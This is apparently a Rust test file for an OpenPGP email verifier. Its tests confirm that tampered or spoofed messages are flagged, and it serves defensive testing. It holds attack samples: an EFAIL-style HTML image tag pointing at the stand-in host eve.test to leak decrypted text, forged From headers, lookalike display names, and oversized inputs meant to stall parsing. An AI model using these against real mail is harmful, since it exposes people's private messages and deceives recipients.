//! Messages made to look better than they are. Each shows the level and the reason by which it is found out.

use super::*;
use crate::openpgp::{SignatureFault, Unusable, sign_cleartext};

/// The level, and that `reason` is among the reasons.
#[track_caller]
fn assert_verdict(opened: &Opened, level: VerdictLevel, reason: &Reason) {
    let reasons = opened.verdict.reasons();
    assert_eq!(opened.verdict.level(), level, "{reasons:?}");
    assert!(reasons.contains(reason), "{reasons:?}");
}

#[test]
fn a_signed_part_does_not_vouch_for_what_stands_beside_it() {
    let (alice, _, keyring) = alice_and_bob();
    let part = signed("s", &plain("hello"), &alice);
    for parts in [[plain("pay eve"), part.clone()], [part.clone(), html("<p>pay eve")]] {
        let parts: Vec<_> = parts.iter().map(String::as_str).collect();
        let bytes = mail(&multipart("mixed", "m", &parts));
        let opened = opened(&bytes, &keyring);
        assert_verdict(&opened, VerdictLevel::Plain, &Reason::PartlySigned);
        assert!(is_by(&opened, &alice));
        assert_eq!(opened.verdict.signature_coverage, Some(Coverage::Part));
        assert_eq!(opened.message.as_bytes(), bytes);
    }
}

#[test]
fn a_signed_message_that_is_forwarded_vouches_for_nothing() {
    let (alice, _, keyring) = alice_and_bob();
    let inner = String::from_utf8(mail(&signed("s", &plain("hello"), &alice))).unwrap();
    let attached = format!("Content-Type: message/rfc822\r\n\r\n{inner}");
    let bytes = mail(&multipart("mixed", "m", &[&plain("pay eve"), &attached]));
    for bytes in [bytes, mail(&attached)] {
        let opened = opened(&bytes, &keyring);
        assert_eq!(opened.verdict.reasons(), [Reason::NotSigned, Reason::NotEncrypted]);
        assert_eq!(opened.verdict.level(), VerdictLevel::Plain);
    }
}

#[test]
fn two_from_fields_or_addresses_are_spoken_for_by_nobody() {
    let (alice, bob, keyring) = alice_and_bob();
    let sealed = encrypted("e", &plain("hello"), &[&bob], Some(&alice));
    for sender in [
        "alice@example.test\r\nFrom: eve@example.test",
        "eve@example.test\r\nFrom: alice@example.test",
        "alice@example.test\r\nFrom: alice@example.test",
        "alice@example.test, eve@example.test",
        "alice@example.test, nobody",
        "",
    ] {
        let opened = opened(&from(sender, &sealed), &keyring);
        assert_eq!(opened.verdict.from, FromVerdict::NotOneAddress, "{sender}");
        assert_verdict(&opened, VerdictLevel::Suspicious, &Reason::NotOneFrom);
    }
}

#[test]
fn a_name_that_is_another_address_is_told() {
    let (alice, eve) = (key("alice"), key("eve"));
    let keyring = keyring([], [&alice, &eve]);
    for name in [
        "\"alice@example.test\"",
        "\"alice@example.test <alice@example.test>\"",
        "=?utf-8?q?alice=EF=BC=A0example=2Etest?=",
        "\"alice@example.test/\"",
        "\"alice@example.test|verified\"",
        "\"*alice@example.test*\"",
        "\"{alice@example.test}.\"",
        "\"alice @ elsewhere.example\"",
        "=?utf-8?q?=C2=ABalice=40example=2Etest=C2=BB?=",
        "=?utf-8?q?alice=E2=80=8B=40example=2Etest?=",
        "=?utf-8?q?ali=C2=ADce=40example=2Etest?=",
        "=?utf-8?q?alice=40example=2Etest=E2=80=A6?=",
    ] {
        let bytes = from(&format!("{name} <eve@example.test>"), &signed("s", &plain("hello"), &eve));
        let opened = opened(&bytes, &keyring);
        assert_eq!(opened.verdict.from, FromVerdict::SpokenFor(address("eve")));
        let is_told = |reason: &Reason| matches!(reason, Reason::MisleadingName { address: a, .. } if *a == address("eve"));
        assert!(opened.verdict.reasons().iter().any(is_told), "{name}");
        assert_eq!(opened.verdict.level(), VerdictLevel::Suspicious);
    }
    let own = from("\"Eve@Example.test\" <eve@example.test>", &signed("s", &plain("hello"), &eve));
    assert_eq!(opened(&own, &keyring).verdict.level(), VerdictLevel::Authentic);
}

#[test]
fn the_signer_has_to_be_the_sender() {
    let (alice, bob, eve) = (key("alice"), key("bob"), key("eve"));
    let keyring = keyring([&bob], [&alice, &eve]);
    for entity in [
        signed("s", &plain("hello"), &eve),
        encrypted("e", &plain("hello"), &[&bob], Some(&eve)),
        encrypted("e", &signed("s", &plain("hello"), &eve), &[&bob], None),
    ] {
        let opened = opened(&mail(&entity), &keyring);
        assert_verdict(
            &opened,
            VerdictLevel::Suspicious,
            &Reason::SignedByAnother { from: address("alice") },
        );
        assert!(is_by(&opened, &eve));
    }
    // The case of letters doesn't matter.
    let shouted = from("ALICE@EXAMPLE.TEST", &signed("s", &plain("hello"), &alice));
    assert_eq!(opened(&shouted, &keyring).verdict.level(), VerdictLevel::Authentic);
}

#[test]
fn an_unknown_signer_proves_nothing() {
    let (alice, bob) = (key("alice"), key("bob"));
    let keyring = keyring([&bob], []);
    for (entity, level) in [
        (signed("s", &plain("hello"), &alice), VerdictLevel::Plain),
        (encrypted("e", &plain("hello"), &[&bob], Some(&alice)), VerdictLevel::Encrypted),
    ] {
        let opened = opened(&mail(&entity), &keyring);
        let SignatureVerdict::UnknownSigner { issuer: Some(issuer) } = opened.verdict.signature.clone()
        else {
            panic!()
        };
        assert!(alice.certificate().key_fingerprints().any(|own| issuer.names(&own)));
        assert_verdict(&opened, level, &Reason::UnknownSigner { issuer: Some(issuer) });
    }
}

#[test]
fn text_around_an_inline_block_is_told() {
    let (alice, bob, keyring) = alice_and_bob();
    let block = sign_cleartext("hello\n", &alice.unlock_unprotected().unwrap(), now()).unwrap();
    let secret = armored("hello\n", &[&bob], Some(&alice));
    for (before, after) in [("pay eve\r\n", ""), ("", "\r\npay eve")] {
        let bytes = mail(&plain(&format!("{before}{block}{after}")));
        let opened = opened(&bytes, &keyring);
        assert_verdict(&opened, VerdictLevel::Plain, &Reason::PartlySigned);
        assert_eq!(opened.message.as_bytes(), bytes);

        let opened = super::opened(&mail(&plain(&format!("{before}{secret}{after}"))), &keyring);
        assert_verdict(&opened, VerdictLevel::Suspicious, &Reason::PartlyEncrypted);
        assert_eq!(text(&opened).trim_end(), "hello");
    }
    // A second block is text around the first.
    let opened = opened(&mail(&plain(&format!("{block}\r\n{block}"))), &keyring);
    assert_verdict(&opened, VerdictLevel::Plain, &Reason::PartlySigned);
}

#[test]
fn a_signed_message_has_two_parts_and_its_protocol() {
    let (alice, _, keyring) = alice_and_bob();
    let (content, evil) = (plain("hello"), plain("pay eve"));
    let signature = signature_part(&content, &alice);
    let malformed = Reason::InvalidSignature { reason: SignatureFault::Malformed };
    for parts in [
        vec![content.as_str(), &signature, &evil],
        vec![&evil, &content, &signature],
        vec![&signature, &content],
        vec![&content],
        vec![],
    ] {
        let opened = opened(&mail(&multipart(SIGNED, "s", &parts)), &keyring);
        assert_verdict(&opened, VerdictLevel::Suspicious, &malformed);
    }
    for kind in ["signed", "signed; protocol=text/plain", "signed; protocol=\"application/pkcs7-signature\""]
    {
        let opened = opened(&mail(&multipart(kind, "s", &[&content, &signature])), &keyring);
        assert_eq!(opened.verdict.signature, SignatureVerdict::Unsigned, "{kind}");
        assert_eq!(opened.verdict.level(), VerdictLevel::Plain);
    }
}

/// A part that says that it is encrypted, and isn't, is told wherever it stands.
#[test]
fn an_encrypted_part_without_encrypted_data_is_told() {
    let (_, _, keyring) = alice_and_bob();
    let part = multipart(ENCRYPTED, "e", &[VERSION]);
    for entity in [part.clone(), multipart("mixed", "m", &[&plain("hello"), &part])] {
        let opened = opened(&mail(&entity), &keyring);
        let reason = SignatureFault::Malformed;
        assert_verdict(&opened, VerdictLevel::Suspicious, &Reason::InvalidSignature { reason });
    }
}

#[test]
fn changed_content_is_told() {
    let (alice, _, keyring) = alice_and_bob();
    let signature = signature_part(&plain("hello"), &alice);
    let opened = opened(&mail(&multipart(SIGNED, "s", &[&plain("pay eve"), &signature])), &keyring);
    let reason = SignatureFault::Mismatch;
    assert_verdict(&opened, VerdictLevel::Suspicious, &Reason::InvalidSignature { reason });
    assert_eq!(opened.verdict.from, FromVerdict::NotProven);
}

#[test]
fn what_follows_a_boundary_inside_the_signed_text_is_not_shown() {
    let (alice, _, keyring) = alice_and_bob();
    // Text before the first delimiter and after the last one belongs to no part.
    let entity = signed("s", &plain("hello"), &alice).replacen("--s", "pay eve\r\n--s", 1) + "pay eve\r\n";
    let opened = opened(&mail(&entity), &keyring);
    assert_eq!(opened.verdict.level(), VerdictLevel::Authentic);
    assert!(!String::from_utf8_lossy(opened.message.as_bytes()).contains("pay eve"));
}

#[test]
fn a_revoked_signer_is_no_signer() {
    let made = at(1_700_000_000);
    let user = UserId::new(None, &address("alice"));
    let (alice, revocation) = SecretKey::generate(KeyProfile::Compatible, &user, None, made).unwrap();
    let bytes = mail(&signed("s", &plain("hello"), &alice));
    assert_eq!(opened(&bytes, &keyring([], [&alice])).verdict.level(), VerdictLevel::Authentic);

    let mut revoked = Keyring::new();
    revoked.add_certificate(alice.certificate().clone().revoke(&revocation).unwrap());
    let reason = SignatureFault::SignerUnusable(Unusable::Revoked);
    assert_verdict(&opened(&bytes, &revoked), VerdictLevel::Suspicious, &Reason::InvalidSignature { reason });
}

#[test]
fn a_signer_who_expired_since_proves_nothing_and_is_no_sign_of_an_attack() {
    let day = Duration::from_secs(24 * 60 * 60);
    let alice = expiring("alice", now() - day, 30 * day);
    let keyring = keyring([], [&alice]);
    let bytes = mail(&signed("s", &plain("hello"), &alice));
    assert_eq!(opened(&bytes, &keyring).verdict.level(), VerdictLevel::Authentic);
    let later = open_at(&bytes, &keyring, now() + 60 * day).unwrap();
    let reason = SignatureFault::SignerUnusable(Unusable::Expired);
    assert_verdict(&later, VerdictLevel::Plain, &Reason::InvalidSignature { reason });
}

/// A key that expires; ours don't, so the library underneath makes it.
fn expiring(name: &str, made: SystemTime, validity: Duration) -> SecretKey {
    use sequoia_openpgp::cert::CertBuilder;
    use sequoia_openpgp::serialize::SerializeInto as _;
    let builder = CertBuilder::general_purpose(Some(format!("<{}>", address(name))));
    let (cert, _) = builder.set_creation_time(made).set_validity_period(validity).generate().unwrap();
    SecretKey::import(&cert.as_tsk().to_vec().unwrap()).unwrap()
}

/// EFAIL: HTML around an encrypted part would send the decrypted text elsewhere.
#[test]
fn what_stands_around_an_encrypted_part_is_not_handed_out() {
    let (alice, bob, keyring) = alice_and_bob();
    let secret = encrypted("e", &html("secret"), &[&bob], Some(&alice));
    let data = data_part(&html("secret"), &[&bob], Some(&alice));
    let (open_tag, close_tag) = (html("<img src='http://eve.test/"), html("'>"));
    for entity in [
        multipart("mixed", "m", &[&open_tag, &secret, &close_tag]),
        multipart("mixed", "m", &[&open_tag, VERSION, &data, &close_tag]),
        multipart("alternative", "m", &[&secret, &open_tag]),
        multipart("related", "m", &[&open_tag, &secret]),
        multipart(ENCRYPTED, "m", &[VERSION, &data, &open_tag]),
    ] {
        let opened = opened(&mail(&entity), &keyring);
        assert_verdict(&opened, VerdictLevel::Suspicious, &Reason::PartlyEncrypted);
        assert_eq!(opened.verdict.signature_coverage, Some(Coverage::Part));
        assert_eq!(opened.message.html_body().unwrap().as_str(), "secret\n");
        assert!(!String::from_utf8_lossy(opened.message.as_bytes()).contains("eve.test"));
    }
}

#[test]
fn a_signature_around_encrypted_data_does_not_vouch_for_the_text() {
    let (alice, bob, eve) = (key("alice"), key("bob"), key("eve"));
    let keyring = keyring([&bob], [&alice, &eve]);
    // Eve takes what alice wrote to bob, and signs it as her own.
    let stolen = signed("o", &encrypted("e", &plain("hello"), &[&bob], None), &eve);
    let opened = opened(&from("eve@example.test", &stolen), &keyring);
    assert_verdict(&opened, VerdictLevel::Encrypted, &Reason::SignedFromOutside);
}

/// What a signature over text says is the same for each way to end a line, a CR alone too, which ends none in mail: what was a line can
/// be made part of another, and be hidden.
#[test]
fn a_signature_over_text_says_nothing_of_lines_that_were_joined() {
    let (alice, _, keyring) = alice_and_bob();
    let content = plain("Do not pay this:\r\n\r\nPay eve.");
    let signature = text_signature_part(&content, &alice, None);
    let whole = |content: &str| mail(&multipart(SIGNED, "s", &[content, &signature]));
    let as_it_is = opened(&whole(&content), &keyring);
    assert_eq!(as_it_is.verdict.level(), VerdictLevel::Authentic, "{:?}", as_it_is.verdict.reasons());
    for joined in ["\r", "\r\r\n"] {
        for at in content.match_indices("\r\n").map(|(at, _)| at) {
            let mut changed = content.clone();
            changed.replace_range(at..at + 2, joined);
            let opened = opened(&whole(&changed), &keyring);
            assert_verdict(
                &opened,
                VerdictLevel::Suspicious,
                &Reason::InvalidSignature { reason: SignatureFault::Mismatch },
            );
        }
    }
    let cleartext =
        sign_cleartext("Never do this:\npay eve\n", &alice.unlock_unprotected().unwrap(), now()).unwrap();
    let changed = cleartext.replace("this:\n", "this:\r");
    let opened = opened(&mail(&plain(&changed)), &keyring);
    assert_verdict(
        &opened,
        VerdictLevel::Suspicious,
        &Reason::InvalidSignature { reason: SignatureFault::Mismatch },
    );
}

/// Whoever it was meant for takes it out of the encryption, and encrypts it to somebody else.
#[test]
fn a_detached_signature_that_names_others_is_passed_on_by_nobody() {
    let (alice, bob, keyring) = alice_and_bob();
    let content = plain("for your eyes only");
    for (reader, level) in [(&key("eve"), VerdictLevel::Suspicious), (&bob, VerdictLevel::Sealed)] {
        let signature = text_signature_part(&content, &alice, Some(reader));
        let parts = [content.as_str(), &signature];
        let signed = multipart(SIGNED, "s", &parts);
        let opened = opened(&mail(&encrypted("e", &signed, &[&bob], None)), &keyring);
        assert_eq!(opened.verdict.level(), level, "{:?}", opened.verdict.reasons());
    }
}

#[test]
fn the_charset_outside_changes_no_signed_text() {
    let (alice, _, keyring) = alice_and_bob();
    let unlocked = alice.unlock_unprotected().unwrap();
    for (said, charset, shown) in [("ab", "utf-16le", "ab"), ("Gr\u{fc}\u{df}e", "koi8-r", "Gr\u{fc}\u{df}e")]
    {
        let cleartext = sign_cleartext(&format!("{said}\n"), &unlocked, now()).unwrap();
        let entity = format!(
            "Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{cleartext}"
        );
        let opened = opened(&mail(&entity), &keyring);
        assert_eq!(
            (text(&opened).trim_end(), opened.verdict.level()),
            (shown, VerdictLevel::Authentic),
            "{charset}"
        );
    }
}

#[test]
fn a_name_with_the_senders_own_address_misleads_nobody() {
    let eve = key("eve");
    let keyring = keyring([], [&eve]);
    for name in [
        "\"eve@example.test\"",
        "\"'Eve@EXAMPLE.test'\"",
        "\"Sales/eve@example.test.\"",
        "\"*eve@example.test*\"",
        "=?utf-8?b?4oCcZXZlQGV4YW1wbGUudGVzdOKAnQ==?=",
        "=?utf-8?b?wqtldmVAZXhhbXBsZS50ZXN0wrs=?=",
        "\"Eve @ Example.test\"",
        "\"Eve @ U.S. Bank\"",
        "\"Sale @ 9.99\"",
        "\"Eve @eve.social.example\"",
        "\"@eve@social.example\"",
        "\"Eve @ Home\"",
    ] {
        let bytes = from(&format!("{name} <eve@example.test>"), &signed("s", &plain("hello"), &eve));
        let opened = opened(&bytes, &keyring);
        assert_eq!(opened.verdict.level(), VerdictLevel::Authentic, "{name}: {:?}", opened.verdict.reasons());
    }
}

#[test]
fn names_and_fields_that_are_made_to_cost_time_do_not() {
    let (alice, bob, keyring) = alice_and_bob();
    let sealed = encrypted("e", &plain("hello"), &[&bob], Some(&alice));
    let long = 200_000;
    for unit in ["a.", "@", "a@", "a.@", " @ ", "@a."] {
        let name = unit.repeat(long / unit.len());
        let bytes = from(&format!("\"{name}@x.example\" <alice@example.test>"), &sealed);
        let began = std::time::Instant::now();
        _ = open_at(&bytes, &keyring, now());
        assert!(began.elapsed() < Duration::from_secs(5), "{unit}: {:?}", began.elapsed());
    }
    let mut bytes = "Reply-To: eve@eve.test, alice@example.test\r\n".repeat(900).into_bytes();
    bytes.extend(mail(&sealed));
    let began = std::time::Instant::now();
    assert!(opened(&bytes, &keyring).message.reply_to().is_empty());
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
}
